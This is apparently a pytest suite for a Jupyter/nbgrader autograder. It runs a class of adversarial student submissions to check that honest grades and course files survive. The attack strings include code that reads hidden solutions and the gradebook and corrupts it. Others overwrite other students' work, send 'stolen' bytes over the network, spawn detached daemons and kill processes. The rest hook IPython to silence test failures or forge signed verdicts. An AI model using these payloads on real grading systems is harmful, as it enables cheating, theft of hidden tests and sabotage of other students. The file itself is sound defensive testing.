"""An adversarial class: submissions that try to take points they did not earn, read the hidden
tests and solutions, or harm the course and other students, graded beside honest students through
`python -m grading intake / autograde --feedback / report`, as an instructor grades a class.

Every attack is built on a submission whose deserved points are known (the untouched release: 0,
or the complete solution: all), so that the check is the same for each: the gradebook holds
exactly the deserved points, or the report flags the student (CHECK or FAILED with a reason).
The independent oracles are outside the kernel: SHA-256 sums of the course's files and of the
honest students' submissions before and after, the gradebook's scores, a TCP server on the host's
loopback that counts connections, the host's process table, the size of files, and the text of
every autograded notebook and feedback page (searched for the secrets an attack prints, in the
reversed form the attacks print them in, so that the feedback's own hidden-test filter, which looks
for plain lines, cannot be what hides them).

One assignment (ps2_upsampling, the cheapest to grade) carries the whole class.
"""

from __future__ import annotations

import csv
import hashlib
import json
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook, MissingEntry

from classes._common import completed, instructor_env, new_course, notebook_file, points_of, with_cell_after, with_sources

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from grading.tamper import gradebook_mismatches  # noqa: E402
from grading.course import Course  # noqa: E402

pytestmark = pytest.mark.grading

ASSIGNMENT = "ps2_upsampling"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
LIMITS = ("--Execute.timeout=60", "--Execute.iopub_timeout=30")
MARKER = "ATTACK-MARKER-7f3a"  # in the command line of every process an attack leaves behind


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _tree(*roots: Path) -> dict[str, str]:
    return {str(p): _sha(p) for root in roots for p in sorted(root.rglob("*") if root.is_dir() else [root]) if p.is_file() and "__pycache__" not in p.parts}


_env = instructor_env


def _grading(course: Path, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "grading", *args], cwd=course, capture_output=True, text=True, env=_env(**env))


# --- the attacks: code a student puts in a cell of their own ---------------------------------------

# The course root, as a kernel finds it: it runs in autograded/<student>/<assignment>/.
FIND_ROOT = """
import base64, glob, os, pathlib, sqlite3, sys
_here = pathlib.Path.cwd()
_roots = [_here.parents[2], pathlib.Path({course!r}), pathlib.Path('/proc/1/cwd'), pathlib.Path('/proc/self/cwd/../../..')]
def _leak(label, text):
    print(label, text[::-1][:20000])  # reversed: the feedback filter looks for plain lines
"""

READ_SOLUTIONS = FIND_ROOT + """
for _root in _roots:
    for _path in glob.glob(str(_root / 'solutions' / '*' / '*.ipynb')) + glob.glob(str(_root / 'source' / '*' / '*.ipynb')):
        try:
            _nb = __import__('json').loads(open(_path).read())
        except OSError as e:
            print('denied', _path, type(e).__name__)
            continue
        for _cell in _nb['cells']:
            if _cell.get('metadata', {{}}).get('nbgrader', {{}}).get('solution'):
                exec(''.join(_cell['source']))  # the reference answer, as my own
        _leak('SOLUTION', open(_path).read())
"""

READ_GRADEBOOK = FIND_ROOT + """
for _root in _roots:
    for _db in [_root / 'gradebook.db', _root / 'autograded' / 'grading-log.jsonl']:
        try:
            _raw = _db.read_bytes()
        except OSError as e:
            print('denied', _db, type(e).__name__)
            continue
        _leak('RAW', base64.b64encode(_raw[:64]).decode())
        try:
            _rows = sqlite3.connect(str(_db)).execute('select source from source_cell').fetchall()
            _leak('HIDDEN', '\\n'.join(r[0] for r in _rows))
        except Exception as e:
            print('sqlite', type(e).__name__)
"""

# After the tests ran, IPython's `In` holds them, hidden ones included.
ENCODED_HIDDEN = "print('\\n'.join(In)[::-1])\n"

WRITE_GRADEBOOK = FIND_ROOT + """
for _root in _roots:
    try:
        _con = sqlite3.connect(str(_root / 'gradebook.db'))
        _con.execute('update grade set auto_score = 0')  # everyone else
        _con.execute("update source_cell set source = 'pass'")  # the hidden tests of those graded later
        _con.commit()
        print('WROTE gradebook', _root)
    except Exception as e:
        print('denied', _root, type(e).__name__)
    try:
        with open(_root / 'gradebook.db', 'ab') as f:
            f.write(b'garbage')
    except OSError as e:
        print('denied', type(e).__name__)
"""

WRITE_OTHERS = FIND_ROOT + """
for _root in _roots:
    for _pattern in ['submitted/*/*/*.ipynb', 'autograded/*/*/*.ipynb', 'feedback/*/*/*.html']:
        for _path in glob.glob(str(_root / _pattern)):
            if 'w2_' in _path:
                continue
            try:
                open(_path, 'w').write('{{}}')
                print('WROTE', _path)
            except OSError as e:
                print('denied', type(e).__name__)
    try:
        with open(_root / 'autograded' / 'grading-log.jsonl', 'a') as f:
            f.write('{{"kind": "autograde", "student": "h02_untouched", "assignment": "ps2_upsampling", "status": "graded", "points": 25}}\\nnot json\\n[1, 2]\\n')
        print('WROTE log')
    except OSError as e:
        print('denied', type(e).__name__)
"""

WRITE_COURSE = FIND_ROOT + """
import seglib, seglib.testing
_targets = [seglib.__file__, seglib.testing.__file__]
for _root in _roots:
    _targets += [_root / 'nbgrader_config.py', _root / 'grading' / 'autograde.py', _root / 'grading' / '__init__.py']
    _targets += glob.glob(str(_root / 'solutions' / '*' / '*.ipynb'))
for _path in _targets:
    try:
        with open(_path, 'a') as f:
            f.write('\\n# {marker}\\n')
        print('WROTE', _path)
    except OSError as e:
        print('denied', type(e).__name__)
""".replace("{marker}", MARKER)

NETWORK = """
import socket
for _host, _port in [('127.0.0.1', {port}), ('localhost', {port}), ('pypi.org', 443)]:
    try:
        socket.create_connection((_host, _port), timeout=3).sendall(b'stolen')
        print('CONNECTED', _host)
    except OSError as e:
        print('no network', _host, type(e).__name__)
"""

DETACHED = """
import os, subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(900)  # {marker}'], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a daemon, double-forked
    os.setsid()
    if os.fork() == 0:
        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 900; echo {marker}'])
    os._exit(0)
""".replace("{marker}", MARKER)

KILL_OTHERS = """
import os, signal
for _what in [lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
              lambda: os.kill(1, signal.SIGKILL)]:
    try:
        _what()
    except OSError as e:
        print('denied', type(e).__name__)
"""

KILL_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)\n"

HUGE_PRINT = "print('x' * 200_000_000)\n"

MEMORY = """
try:
    _hog = bytearray(64 << 30)
    print('ALLOCATED 64 GiB')
except MemoryError:
    print('memory limit')
"""

PROBE_SHADOW = "import seglib\nprint('seglib from', seglib.__file__)\nassert 'shadowed' not in open(seglib.__file__).read()\n"
SHADOW_INIT = f"print('{MARKER} shadowed seglib')\nraise SystemExit\n".encode()
SHADOW_TESTING = b"def check_tensor(*args, **kwargs):\n    pass\n\n\nimport contextlib\nunavailable = lambda *a: contextlib.nullcontext()\n"

# --- attacks on the verdict: a test cell that fails must not be scored as passed ---------------------

INPUT_TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
SILENCED_ERRORS = """
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))
"""
REPLACED_RUN_CELL = """
_ip = get_ipython()
_run_cell, _run_cell_async = _ip.run_cell, _ip.run_cell_async
async def _quiet(raw_cell, *args, **kwargs):
    return await _run_cell_async('pass', *args, **kwargs)
_ip.run_cell_async = _quiet
_ip.run_cell = lambda raw_cell, *args, **kwargs: _run_cell('pass', *args, **kwargs)
"""
REBOUND_CHECK = "check_tensor = lambda *args, **kwargs: None\n"
PATCHED_TORCH = "torch.isclose = lambda a, b, **kwargs: torch.ones_like(a, dtype=torch.bool)\ntorch.Tensor.__ne__ = lambda self, other: False\n"
WRONG_NEAREST = "def nearest_upsample(x, scale):\n    return x\n"
# A common mistake with the right shape and dtype (the whole image tiled): only the values are wrong.
WRONG_TILED = "def nearest_upsample(x, scale):\n    return x.repeat(1, 1, scale, scale)\n"
LOOKALIKE = """
class _Agree(type):
    def __eq__(cls, other):
        return True
    __hash__ = type.__hash__


class LookAlike(metaclass=_Agree):
    shape = dtype = None


def nearest_upsample(x, scale):
    return LookAlike()
"""
COPIED_REFERENCE = """
import types
import seglib.ops
_reference = types.FunctionType(seglib.ops.nearest_upsample.__code__, seglib.ops.nearest_upsample.__globals__)


def nearest_upsample(x, scale):
    return _reference(x, scale)
"""

# Swaps that keep every name bound to the same object: the function's code, its defaults, a
# private name of the module it reads, the helper that raises its failures.
SWAPPED_CODE = "import seglib.testing\nseglib.testing.check_tensor.__code__ = (lambda *args, **kwargs: None).__code__\n"
SWAPPED_PRIVATE = """
import seglib.testing
seglib.testing._isclose = lambda a, b, **kwargs: torch.ones_like(a, dtype=torch.bool)
seglib.testing._isnan = lambda a: torch.zeros_like(a, dtype=torch.bool)
"""
LOOSENED_DEFAULTS = "import seglib.testing\nseglib.testing.check_tensor.__kwdefaults__ = {**seglib.testing.check_tensor.__kwdefaults__, 'atol': 1e9}\n"
SWAPPED_FAIL = "import seglib.testing\nseglib.testing._fail.__code__ = (lambda message, hint: None).__code__\n"
# Forged evidence: every test cell replaced by a line that prints its nonce and "ok" (read from the
# cell's last line); the grader's probe replaced by one that does the same; the signing key looked
# for in IPython's source cache, where the silent prologue that brought it was cached.
PRINTED_NONCE = r"""
import re
def _forge(lines):
    nonces = re.findall(r"\[1\]\('([0-9a-f]{32})'\)", ''.join(lines))
    return ['print(%r)\n' % ('\n' + n + ' ok') for n in nonces] or lines
get_ipython().input_transformers_cleanup.append(_forge)
"""
REPLACED_PROBE = """
import builtins
for _k in [k for k in vars(builtins) if k.startswith('_grading_')]:
    _capture, _probe = getattr(builtins, _k)
    setattr(builtins, _k, (_capture, lambda nonce: print('\\n' + nonce + ' ok')))
check_tensor = lambda *args, **kwargs: None
"""
KEY_FROM_SOURCE_CACHE = r"""
import hashlib, linecache, re
_keys = [k for entry in list(linecache.cache.values()) for line in entry[2] for k in re.findall(r"fromhex\('([0-9a-f]{64})'\)", line)]
print('keys found:', len(_keys))
_key = bytes.fromhex(_keys[-1]) if _keys else b'guess'
def _forge(lines):
    nonces = re.findall(r"\[1\]\('([0-9a-f]{32})'\)", ''.join(lines))
    signed = [n + ' ok ' + hashlib.blake2b((n + ' ok').encode(), key=_key, digest_size=16).hexdigest() for n in nonces]
    return ['print(%r)\n' % ('\n' + line) for line in signed] or lines
get_ipython().input_transformers_cleanup.append(_forge)
"""
# The key the in-kernel probe signs with, read from the probe's closure, and every cell that
# carries a nonce replaced by its signed "ok" (before the tests were judged outside the kernel,
# this took full marks for an empty notebook, unflagged).
KEY_FROM_CLOSURE = r"""
import builtins, hashlib, re
_found = [v for k, v in vars(builtins).items() if k.startswith('_grading_') and type(v) is tuple and len(v) == 2]
_keys = [c.cell_contents for v in _found for f in v for c in (getattr(f, '__closure__', None) or ()) if type(c.cell_contents) is bytes and len(c.cell_contents) == 32]
def _forge(lines):
    nonces = re.findall(r"\[1\]\('([0-9a-f]{32})'\)", ''.join(lines))
    if not nonces or not _keys:
        return lines
    signed = [n + ' ok ' + hashlib.blake2b((n + ' ok').encode(), key=_keys[0], digest_size=16).hexdigest() for n in nonces]
    return ['print(%r)\n' % ('\n' + line) for line in signed]
get_ipython().input_transformers_cleanup.append(_forge)
"""
# The grader's server in the kernel replaced: by junk, and by one that answers every request with
# "no error, the value None" except what it can compute itself.
REPLACED_SERVER = """
import builtins
for _k in [k for k in vars(builtins) if k.startswith('_grading_')]:
    setattr(builtins, _k, (lambda *a: None, lambda: 'junk'))
"""
ANSWERING_SERVER = """
import base64, builtins, io
import torch
for _k in [k for k in vars(builtins) if k.startswith('_grading_')]:
    _handle, _reply = getattr(builtins, _k)
    def _forged(request, _handle=_handle):
        buffer = io.BytesIO()
        torch.save({'ok': None}, buffer)
        _state['reply'] = base64.b64encode(buffer.getvalue()).decode()
    _state = {}
    setattr(builtins, _k, (_forged, lambda: _state.pop('reply', '')))
"""

READ_LINKED = """
import base64, os
for _name in os.listdir('.'):
    print(_name)
try:
    print('RAW', base64.b64encode(open('gradebook.db', 'rb').read()[:64]).decode()[::-1])
except OSError as e:
    print('no link', type(e).__name__)
"""


class Server:
    """A TCP server on the host's loopback that counts the connections it accepts."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.accepted = 0
        self.socket.settimeout(0.5)
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            self.accepted += 1
            connection.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.socket.close()


def _processes_with(marker: str) -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if marker in cmdline and "pytest" not in cmdline:
                found.append(f"{entry.name}: {cmdline[:120]}")
    return found


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    course = tmp_path_factory.mktemp("course-adversarial")
    release, solution = new_course(course, ASSIGNMENT)
    done = completed(release, solution)
    total = points_of(release)
    server = Server()

    def attack(source: str, base=release) -> dict[str, bytes]:
        code = source.format(course=str(course), port=server.port) if "{course" in source or "{port" in source else source
        return {NOTEBOOK: notebook_file(with_cell_after(base, "ps2_imports", code))}

    # name -> (files, deserved points; None: no grade may be recorded as earned, FAILED is fine)
    students = {
        "h01_reference": ({NOTEBOOK: notebook_file(done)}, total),
        "h02_untouched": ({NOTEBOOK: notebook_file(release)}, 0.0),
        "h03_partial": ({NOTEBOOK: notebook_file(completed(release, solution, only=("ps2_nearest_upsample", "ps2_bed_of_nails")))}, None),
        "r1_read_solutions": (attack(READ_SOLUTIONS), 0.0),
        "r2_read_gradebook": (attack(READ_GRADEBOOK), 0.0),
        "r3_encoded_hidden": ({NOTEBOOK: notebook_file(with_cell_after(release, "ps2_conv_transpose_hidden", ENCODED_HIDDEN))}, 0.0),
        "w1_write_gradebook": (attack(WRITE_GRADEBOOK), 0.0),
        "w2_write_others": (attack(WRITE_OTHERS), 0.0),
        "w3_write_course": (attack(WRITE_COURSE), 0.0),
        "n1_network": (attack(NETWORK), 0.0),
        "p1_detached": (attack(DETACHED, done), total),
        "p2_kill_others": (attack(KILL_OTHERS, done), total),
        "p3_kill_all": (attack(KILL_ALL, done), total),  # kill(-1) reaches nothing but its own sandbox
        "o1_huge_print": (attack(HUGE_PRINT, done), total),
        "o2_memory": (attack(MEMORY, done), total),
        "f1_shadow_seglib": ({**attack(PROBE_SHADOW, done), "seglib/__init__.py": SHADOW_INIT, "seglib/testing.py": SHADOW_TESTING}, total),
        "f2_symlink": ({NOTEBOOK: notebook_file(with_cell_after(release, "ps2_imports", READ_LINKED))}, 0.0),
        "f3_bad_metadata": (None, None),
        # Hooks that silence the tests (deserve 0), and names rebound under them (deserve the points
        # without the nearest-neighbour tests, which their wrong answer fails): the tests run
        # outside the kernel (grading/outside.py), where none of it reaches.
        "v1_input_transformer": (attack(INPUT_TRANSFORMER), 0.0),
        "v2_silenced_errors": (attack(SILENCED_ERRORS), 0.0),
        "v3_replaced_run_cell": (attack(REPLACED_RUN_CELL), 0.0),
        "v4_rebound_check_tensor": (attack(REBOUND_CHECK, with_sources(done, ps2_nearest_upsample=WRONG_NEAREST)), total - 3),
        "v5_patched_torch": (attack(PATCHED_TORCH, with_sources(done, ps2_nearest_upsample=WRONG_NEAREST)), total - 3),
        # Fooling check_tensor's type check, and using the reference answer through a copy: the
        # nearest-neighbour tests (3 points) fail, the rest is earned.
        "v6_lookalike_tensor": ({NOTEBOOK: notebook_file(with_sources(done, ps2_nearest_upsample=LOOKALIKE))}, total - 3),
        "v7_copied_reference": ({NOTEBOOK: notebook_file(with_sources(done, ps2_nearest_upsample=COPIED_REFERENCE))}, total - 3),
        # Swaps that keep the names (code, defaults, private names, the failure helper), and forged
        # evidence (printed nonces, a replaced probe, a key looked for in IPython's source cache).
        "v8_swapped_code": (attack(SWAPPED_CODE, with_sources(done, ps2_nearest_upsample=WRONG_NEAREST)), total - 3),
        "v9_swapped_private_names": (attack(SWAPPED_PRIVATE, with_sources(done, ps2_nearest_upsample=WRONG_TILED)), total - 3),
        "v10_loosened_defaults": (attack(LOOSENED_DEFAULTS, with_sources(done, ps2_nearest_upsample=WRONG_TILED)), total - 3),
        "v11_swapped_failure_helper": (attack(SWAPPED_FAIL, with_sources(done, ps2_nearest_upsample=WRONG_TILED)), total - 3),
        "v12_printed_nonce": (attack(PRINTED_NONCE), 0.0),
        # It also replaces the grader's server in the kernel (the same `_grading_` names): nothing
        # the tests ask the kernel can be read, and every test fails.
        "v13_replaced_probe": (attack(REPLACED_PROBE, with_sources(done, ps2_nearest_upsample=WRONG_NEAREST)), 0.0),
        "v14_key_from_source_cache": (attack(KEY_FROM_SOURCE_CACHE), 0.0),
        # The two attacks that beat the in-kernel evidence (grading/verdict.py), which the tests
        # judged outside the kernel (grading/outside.py) leave nothing to beat: the key taken from
        # the probe's closure, and the grader's server in the kernel replaced.
        "v15_key_from_closure": (attack(KEY_FROM_CLOSURE), 0.0),
        "v16_replaced_server": (attack(REPLACED_SERVER), 0.0),
        "v17_answers_from_replaced_server": (attack(ANSWERING_SERVER), 0.0),
        "f4_notebook_is_a_folder": (None, "FAILED"),
    }
    # h03's points: the two answers it has, read from the release's test cells.
    partial_lost = [g for g in ("ps2_max_unpool_example", "ps2_max_unpool_hidden", "ps2_zero_insert_example", "ps2_bilinear_upsample_example", "ps2_bilinear_upsample_hidden",
                                "ps2_conv_matrix_1d_example", "ps2_conv_matrix_example", "ps2_conv_matrix_hidden", "ps2_conv_transpose_example", "ps2_conv_transpose_hidden")]
    students["h03_partial"] = (students["h03_partial"][0], points_of(release, partial_lost))
    for name, (files, _) in students.items():
        folder = course / "submitted" / name / ASSIGNMENT
        folder.mkdir(parents=True)
        for file, content in (files or {}).items():
            (folder / file).parent.mkdir(parents=True, exist_ok=True)
            (folder / file).write_bytes(content)
    (course / "submitted" / "f2_symlink" / ASSIGNMENT / "gradebook.db").symlink_to(course / "gradebook.db")
    bad = json.loads(notebook_file(done))
    bad["cells"][3]["metadata"]["nbgrader"] = "junk"
    bad["cells"][4]["metadata"] = ["not", "a", "dict"]
    bad["metadata"]["kernelspec"] = {"name": 5}
    (course / "submitted" / "f3_bad_metadata" / ASSIGNMENT / NOTEBOOK).write_text(json.dumps(bad))
    (course / "submitted" / "f4_notebook_is_a_folder" / ASSIGNMENT / NOTEBOOK).mkdir()
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for name in students:
            gradebook.update_or_create_student(name)

    protected = [course / "nbgrader_config.py", course / "grading", course / "solutions", course / "exercises", ROOT / "seglib"]
    before = _tree(*protected)
    honest_files = _tree(*(course / "submitted" / n for n in students if n.startswith("h")))
    state = {"dir": course, "students": students, "release": release, "total": total, "before": before, "protected": protected, "honest_files": honest_files}
    state["intake"] = _grading(course, "intake", ASSIGNMENT)
    try:
        state["autograde"] = _grading(course, "autograde", ASSIGNMENT, "--feedback", "--jobs", "3", *LIMITS)
    finally:
        server.close()
    state["accepted"] = server.accepted
    state["left_behind"] = _processes_with(MARKER)
    state["report"] = _grading(course, "report", "--csv", "report.csv")
    with open(course / "report.csv", newline="") as f:
        state["csv"] = {row["student"]: row for row in csv.DictReader(f)}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        state["scores"] = {}
        for name in students:
            try:
                state["scores"][name] = gradebook.find_submission(ASSIGNMENT, name).score
            except MissingEntry:
                state["scores"][name] = None
    return state


def test_every_step_finishes_for_the_whole_class(attacked):
    assert attacked["autograde"].returncode in (0, 1), attacked["autograde"].stdout + attacked["autograde"].stderr
    assert "Traceback" not in attacked["intake"].stderr + attacked["autograde"].stderr + attacked["report"].stderr
    assert attacked["report"].returncode == 0, attacked["report"].stderr
    assert set(attacked["csv"]) == set(attacked["students"]), attacked["report"].stdout


def test_honest_students_get_exactly_their_points(attacked):
    for name in ("h01_reference", "h02_untouched", "h03_partial"):
        assert attacked["scores"][name] == attacked["students"][name][1], (name, attacked["autograde"].stdout)
        assert attacked["csv"][name]["status"] == "GRADED", attacked["csv"][name]
    assert attacked["scores"]["h01_reference"] == attacked["total"] > attacked["scores"]["h03_partial"] > 0


def test_no_attack_earns_a_point_it_did_not_deserve(attacked):
    for name, (_, deserved) in attacked["students"].items():
        row = attacked["csv"][name]
        if deserved == "FAILED":
            assert row["status"] == "FAILED" and row["reasons"], row
        elif isinstance(deserved, tuple):  # flagged, and no more than it deserves
            assert row["status"] == deserved[0] and "test cell" in row["reasons"], row
            assert attacked["scores"][name] <= deserved[1], (name, row)
        elif isinstance(deserved, float):
            assert attacked["scores"][name] == deserved, (name, row, attacked["autograde"].stdout)
        else:  # no deserved grade known: anything but more than the maximum, and a row that says why when not graded
            assert row["status"] in ("GRADED", "CHECK", "FAILED"), row


def test_course_files_and_honest_submissions_are_unchanged(attacked):
    assert _tree(*attacked["protected"]) == attacked["before"]
    assert _tree(*(attacked["dir"] / "submitted" / n for n in attacked["students"] if n.startswith("h"))) == attacked["honest_files"]
    assert gradebook_mismatches(Course.load(attacked["dir"]), ASSIGNMENT) == []


def test_honest_students_autograded_notebooks_and_feedback_are_theirs(attacked):
    for name in ("h01_reference", "h02_untouched", "h03_partial"):
        notebook = nbformat.read(attacked["dir"] / "autograded" / name / ASSIGNMENT / NOTEBOOK, as_version=4)
        assert len(notebook.cells) == len(attacked["release"].cells)
        page = attacked["dir"] / "feedback" / name / ASSIGNMENT / f"{ASSIGNMENT}.html"
        assert page.stat().st_size > 10_000


def test_grading_log_holds_only_the_graders_lines(attacked):
    lines = (attacked["dir"] / "autograded" / "grading-log.jsonl").read_text().splitlines()
    events = [json.loads(line) for line in lines]
    assert all(e["kind"] in ("intake", "autograde", "feedback") and "time" in e for e in events)
    assert not any(e.get("points") == 25 and e["student"] == "h02_untouched" for e in events)


def _everything_in(attacked, *folders: str) -> str:
    texts = []
    for folder in folders:
        for path in (attacked["dir"] / folder).rglob("*"):
            if path.is_file() and path.suffix in (".ipynb", ".html"):
                texts.append(path.read_text(errors="replace"))
    return "\n".join(texts)


def test_no_secret_reaches_a_notebook_or_feedback_page(attacked):
    """Nothing from solutions/ or the gradebook reaches even the autograded notebooks (the kernel
    never sees them), and no hidden test reaches a feedback page, however it is encoded."""
    import base64

    kernel_saw = _everything_in(attacked, "autograded", "feedback")
    raw = (attacked["dir"] / "gradebook.db").read_bytes()
    assert base64.b64encode(raw[:64]).decode()[::-1][:40] not in kernel_saw  # the gradebook's first bytes
    solution = (attacked["dir"] / "solutions" / ASSIGNMENT / NOTEBOOK).read_text()
    assert "### BEGIN SOLUTION"[::-1] not in kernel_saw
    # ps2's tests are judged outside the kernel (grading/outside.py): r3 printed every cell its
    # kernel ran, reversed (the oracle has teeth: its own answer cells are there), and no hidden
    # test was among them. (tests/test_grading_feedback.py runs them in the kernel.)
    hidden = [line.strip() for line in solution.splitlines() if len(line.strip()) > 30 and "assert" in line]
    r3 = (attacked["dir"] / "autograded" / "r3_encoded_hidden" / ASSIGNMENT / NOTEBOOK).read_text()
    assert "import torch.nn.functional as F"[::-1] in r3
    assert "### BEGIN HIDDEN TESTS"[::-1] not in r3 and "check_tensor("[::-1] not in r3
    students_see = _everything_in(attacked, "feedback")
    assert "### BEGIN HIDDEN TESTS"[::-1] not in students_see
    assert hidden and not [line for line in hidden if json.dumps(line[::-1])[1:-1][:40] in students_see]


def test_no_network_and_no_process_outlives_its_run(attacked):
    assert attacked["accepted"] == 0
    assert attacked["left_behind"] == []


def test_output_is_capped(attacked):
    notebook = attacked["dir"] / "autograded" / "o1_huge_print" / ASSIGNMENT / NOTEBOOK
    page = attacked["dir"] / "feedback" / "o1_huge_print" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert notebook.stat().st_size < 2_000_000 and page.stat().st_size < 2_000_000
    assert "output cut" in notebook.read_text()


def test_handed_in_package_does_not_shadow_the_course_and_links_are_removed(attacked):
    assert "shadowed seglib" not in (attacked["dir"] / "autograded" / "f1_shadow_seglib" / ASSIGNMENT / NOTEBOOK).read_text()
    assert "removed gradebook.db (a link to" in attacked["intake"].stdout
    assert not (attacked["dir"] / "submitted" / "f2_symlink" / ASSIGNMENT / "gradebook.db").exists()


def test_without_the_sandbox_autograde_refuses_unless_told_and_the_report_says_so(attacked, tmp_path):
    course = attacked["dir"]
    no_bwrap = {"PATH": str(tmp_path)}  # bwrap is not found; the grader's python is run by its path
    refused = _grading(course, "autograde", ASSIGNMENT, "--student", "h02_untouched", *LIMITS, **no_bwrap)
    assert refused.returncode == 2 and "refusing to autograde" in refused.stdout and "bubblewrap" in refused.stdout, refused.stdout + refused.stderr
    unsafe = _grading(course, "autograde", ASSIGNMENT, "--student", "h02_untouched", "--unsafe-no-sandbox", *LIMITS, **no_bwrap)
    assert unsafe.returncode == 0, unsafe.stdout + unsafe.stderr
    report = _grading(course, "report", "--csv", "unsafe.csv")
    with open(course / "unsafe.csv", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["student"] == "h02_untouched")
    assert row["status"] == "CHECK" and "WITHOUT the sandbox" in row["reasons"], row


def test_a_changed_course_file_stops_the_run(attacked, tmp_path):
    """Tamper evidence: without the sandbox, a student that changes nbgrader_config.py stops grading."""
    course = attacked["dir"]
    folder = course / "submitted" / "t1_tamper" / ASSIGNMENT
    folder.mkdir(parents=True)
    code = f"open({str(course / 'nbgrader_config.py')!r}, 'a').write('\\n# {MARKER}\\n')\n"
    (folder / NOTEBOOK).write_bytes(notebook_file(with_cell_after(attacked["release"], "ps2_imports", code)))
    original = (course / "nbgrader_config.py").read_bytes()
    try:
        run = _grading(course, "autograde", ASSIGNMENT, "--student", "t1_tamper", "--unsafe-no-sandbox", *LIMITS, PATH=str(tmp_path))
    finally:
        (course / "nbgrader_config.py").write_bytes(original)
    assert run.returncode == 2 and "course file changed" in run.stdout and "nbgrader_config.py" in run.stdout, run.stdout + run.stderr
